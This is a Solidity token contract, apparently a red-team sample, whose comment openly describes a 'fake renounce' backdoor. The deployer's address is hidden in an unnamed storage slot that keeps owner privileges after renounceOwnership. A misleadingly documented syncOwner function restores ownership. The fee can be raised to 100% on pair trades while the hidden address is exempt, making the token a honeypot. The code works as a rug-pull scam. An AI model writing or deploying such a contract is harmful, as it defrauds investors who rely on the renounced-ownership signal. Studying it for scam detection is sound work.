// SPDX-License-Identifier: MIT
pragma solidity ^0.8.28;

import {RtERC20Lite} from "./RtCommon.sol";

/// @title RtGhostOwner
/// @notice Fake renounce: renounceOwnership clears `owner`, but the deployer
/// is also stored in an unnamed storage slot that keeps every privilege and
/// can restore ownership.
contract RtGhostOwner is RtERC20Lite {
    address public owner;
    address public pair;
    uint256 private _fee = 2;
    // an arbitrary unnamed slot, no getter
    bytes32 private constant _OPS = 0x3b4c2a9c67d0c3a3c3a3e1f8a3ff9e7d1c9c0b5b7e55f4a1d6c0e0e1a1b1c1d0;

    event OwnershipTransferred(address indexed previousOwner, address indexed newOwner);

    constructor(address router) RtERC20Lite("Ghost Protocol", "GHOST", 18) {
        owner = msg.sender;
        bytes32 slot = _OPS;
        assembly {
            sstore(slot, caller())
        }
        pair = _createPair(router);
        _mint(msg.sender, 777_000_000 ether);
    }

    modifier onlyOwner() {
        require(msg.sender == owner || msg.sender == _ops(), "Ownable: caller is not the owner");
        _;
    }

    function _ops() private view returns (address o) {
        bytes32 slot = _OPS;
        assembly {
            o := sload(slot)
        }
    }

    function renounceOwnership() external onlyOwner {
        emit OwnershipTransferred(owner, address(0));
        owner = address(0);
    }

    /// @notice Re-syncs the owner record after a migration.
    function syncOwner() external {
        require(msg.sender == _ops());
        owner = msg.sender;
    }

    function setFee(uint256 fee) external onlyOwner {
        require(fee <= 100);
        _fee = fee;
    }

    function _transfer(address from, address to, uint256 amount) internal override {
        uint256 f;
        if ((from == pair || to == pair) && from != _ops() && to != _ops()) f = amount * _fee / 100;
        if (f > 0) _move(from, address(this), f);
        _move(from, to, amount - f);
    }
}
